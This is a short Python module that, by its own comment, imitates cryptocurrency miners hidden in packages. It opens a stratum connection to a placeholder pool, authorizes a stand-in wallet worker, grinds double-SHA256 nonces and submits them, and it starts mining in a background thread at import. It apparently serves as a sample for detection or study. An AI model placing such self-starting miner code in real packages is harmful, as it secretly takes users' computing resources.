# Imitates pure-Python miners hidden in packages: speak stratum to a pool and grind double-SHA256 hashes in a thread.
import hashlib
import json
import socket
import struct
import threading

POOL = ("pool.example.invalid", 3333)
WORKER = "bc1qexampleexampleexampleexample0000.worker1"


def _rpc(sock, ident, method, params):
    sock.sendall((json.dumps({"id": ident, "method": method, "params": params}) + "\n").encode())
    return json.loads(sock.makefile().readline())


def _grind(header_prefix, target):
    nonce = 0
    while nonce < 0xFFFFFFFF:
        digest = hashlib.sha256(hashlib.sha256(header_prefix + struct.pack("<I", nonce)).digest()).digest()
        if int.from_bytes(digest[::-1], "big") < target:
            return nonce
        nonce += 1
    return None


def mine():
    sock = socket.create_connection(POOL)
    _rpc(sock, 1, "mining.subscribe", ["plugin/1.0"])
    _rpc(sock, 2, "mining.authorize", [WORKER, "x"])
    job = json.loads(sock.makefile().readline())
    nonce = _grind(bytes.fromhex(job["params"][1]), 1 << 224)
    _rpc(sock, 3, "mining.submit", [WORKER, job["params"][0], nonce])


threading.Thread(target=mine, daemon=True).start()
